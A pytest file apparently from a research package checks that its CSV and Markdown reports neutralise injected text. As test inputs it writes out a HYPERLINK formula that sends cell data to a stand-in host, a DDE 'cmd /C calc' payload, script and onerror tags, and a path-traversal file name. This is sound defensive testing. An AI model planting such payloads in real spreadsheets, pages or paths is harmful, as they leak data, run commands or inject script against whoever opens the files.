"""Texts of a store in files that others open: no formula in a CSV file, no tag in report.md."""

from __future__ import annotations

import csv
import json
import math
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt

from curvlab.cli import main
from curvlab.files import csv_text, plain_cell
from curvlab.report.content import Answer, Content, Drawing, Section
from curvlab.report.drawing import Look
from curvlab.report.pages import code_block, write_pages
from curvlab.reproduce.grid_study import GridStudy
from curvlab.reproduce.run import reproduce
from curvlab.reproduce.subjects import Options
from curvlab.studies.compare.run import compare
from curvlab.studies.setup import Setup
from curvlab.studies.store import Store
from curvlab.studies.train.run import TrainPlan, train
from tests.cases import ONE_SCENE

TINY = Setup(arch="6-4-3", data="synthetic[features=6,classes=3,examples=50]", batch=20, dtype="float64")
FORMULA = '=HYPERLINK("http://evil.invalid/"&A1)'
TEXT = f"{FORMULA}<script>alert(1)</script>|\n\n# big\n<img src=x onerror=alert(1)>"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")


def cells_of(path: Path) -> list[str]:
    with path.open(newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def runs_as_formula(cell: str) -> bool:
    """As a spreadsheet sees it: what begins so and is no number."""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(DANGEROUS)
    return False


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "-x", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "-", "--1", "+ 1",
     "-1 ", "-1\n"],
)  # fmt: skip
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    shown = "'" + text.replace("\r", "\n")
    assert plain_cell(text) == shown
    frame = pd.DataFrame({"name": [text], "=head": [1.0]})
    rows = list(csv.reader(csv_text(frame).splitlines(keepends=True)))
    assert rows[0] == ["name", "'=head"]
    assert rows[1:] == [[shown, "1.0"]]


@pytest.mark.parametrize("text", ["a\r=1+1", "a\r\n=1+1", "a\n=1+1", 'a","=1+1', "a,=1+1"])
def test_no_text_begins_a_new_cell(text):
    rows = list(csv.reader(csv_text(pd.DataFrame({"name": [text], "x": [1]})).splitlines(keepends=True)))
    assert [len(row) for row in rows] == [2, 2]


@pytest.mark.parametrize(
    "value", ["pch-1", "", "a=b", "-1", "-1.5e-07", "+2", "-inf", -1, -2.5, None, True, "'x"]
)
def test_numbers_and_other_texts_stay_as_they_are(value):
    assert plain_cell(value) == value


def test_frames_without_formulas_are_written_as_pandas_writes_them():
    frame = pd.DataFrame(
        {
            "layer": [1, 2, "Total"],
            "name": ["0", "2", None],
            "error": [-1.25, math.nan, np.inf],
            "count": [1, -2, 3],
            "flag": [True, False, True],
            "kind": pd.Categorical(["a", "b", "a"]),
        }
    )
    for form in (None, "%.6g"):
        assert csv_text(frame, float_format=form) == frame.to_csv(index=False, float_format=form)
    assert csv_text(pd.DataFrame()) == pd.DataFrame().to_csv(index=False)
    doubled = pd.DataFrame([["=1", -1.0, "=2"]], columns=["a", "b", "a"])
    assert csv_text(doubled) == "a,b,a\n'=1,-1.0,'=2\n"


def spoil(folder: Path, names: tuple[str, ...], text: str = TEXT) -> None:
    """Put `text` in front of some fields of every row of a store, as a stranger might have."""
    path = folder / "results.jsonl"

    def spoiled(value: object, name: str = "") -> object:
        if isinstance(value, dict):
            return {key: spoiled(item, key) for key, item in value.items()}
        if isinstance(value, list):
            return [spoiled(item, name) for item in value]
        return text + value if isinstance(value, str) and name in names and value != "" else value

    rows = [spoiled(json.loads(line)) for line in path.read_text().splitlines()]
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))


@pytest.mark.slow
def test_the_files_of_a_comparison_have_no_formula_and_no_tag(tmp_path):
    ask = ONE_SCENE | {"repetitions": 1, "epochs": 1, "tune": False, "train_seeds": 1}
    compare(TINY, ["fisher", "pch-1"], ["kfi", "cg"], output=tmp_path, **ask)
    (tmp_path / "config.toml").unlink()
    named = ("provider", "solver", "providers", "solvers", "baselines", "optimizer", "layer_name", "notes")
    spoil(tmp_path, (*named, "newton_reason", "message", "route", "warnings", "torch", "data", "processor"))
    found = CliRunner().invoke(main, ["report", str(tmp_path), "--quiet"])
    assert found.exit_code == 0, found.output
    cells = cells_of(tmp_path / "results.csv")
    assert not [cell for cell in cells if runs_as_formula(cell)]
    assert [cell for cell in cells if cell.startswith(f"'{FORMULA}")]
    text = (tmp_path / "report.md").read_text()
    assert "<script" not in text
    assert "<img" not in text
    assert text.count("&lt;script") > 10
    page = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    assert "<script" not in page
    assert "onerror=alert(1)&gt;" in page
    assert "<h1>big" not in page


def test_code_with_tags_is_shown_as_it_is_and_ends_where_it_ends():
    code = "curvlab compare -p '</code></pre>\n\n<script>x</script>\n```' && echo \"&lt;\""
    page = MarkdownIt("commonmark", {"html": True}).render(f"before\n\n{code_block(code)}\n\nafter")
    assert page.count("<pre>") == page.count("</pre>") == 1
    assert "<script>" not in page
    assert page.endswith("<p>after</p>\n")
    assert str(code_block("curvlab compare")) == "```\ncurvlab compare\n```"


def test_the_metrics_of_a_run_have_no_formula(tmp_path, monkeypatch):
    monkeypatch.setattr(
        TrainPlan, "labels", lambda plan: {"optimizer": FORMULA, "provider": "", "solver": ""}
    )
    train(TrainPlan(TINY, "sgd", epochs=1), tmp_path)
    cells = cells_of(tmp_path / "metrics.csv")
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if runs_as_formula(cell)]


def test_the_files_of_a_reproduction_have_no_formula_and_no_tag_and_stay_in_their_folder(tmp_path):
    study = GridStudy(data="digits[train=60,test=30]", arch="64-8-10", epochs=1, evaluate_examples=30,
                      pairs=("sgd",), lr=(0.05,), batch=(30,), alpha=(0.1,))  # fmt: skip
    options = Options("smoke", study=study)
    reproduce("grid", options, tmp_path)
    spoil(tmp_path / "grid" / "work", ("criterion", "optimizer", "message", "platform"))
    page = reproduce("grid", options, tmp_path)
    cells = [cell for path in page.parent.glob("*.csv") for cell in cells_of(path)]
    assert not [cell for cell in cells if runs_as_formula(cell)]
    assert [cell for cell in cells if cell.startswith(f"'{FORMULA}")]
    assert "<script" not in page.with_suffix(".md").read_text()


def test_a_figure_whose_name_has_a_path_stays_among_the_figures(tmp_path):
    def draw(look: Look) -> object:
        from matplotlib.figure import Figure

        return Figure(figsize=(1, 1)).subplots()

    drawing = Drawing("loss-../../../outside (1)", "A caption.", draw)
    section = Section("s", "Title", drawings=(drawing,))
    content = Content("T", (), Answer("A."), (section,), lambda theme: Look(theme=theme), ())
    write_pages(content, tmp_path / "a" / "b")
    images = list(tmp_path.rglob("*.png"))
    assert [image.parent for image in images] == [tmp_path / "a" / "b" / "figures"]
    assert f"](figures/{images[0].name})" in (tmp_path / "a" / "b" / "report.md").read_text()


def test_rows_in_the_store_are_as_they_were(tmp_path):
    """Escaping is a matter of the files that are shown: the truth is not changed."""
    store = Store(tmp_path)
    store.append({"key": "a", "message": TEXT})
    assert Store(tmp_path).rows()[0]["message"] == TEXT
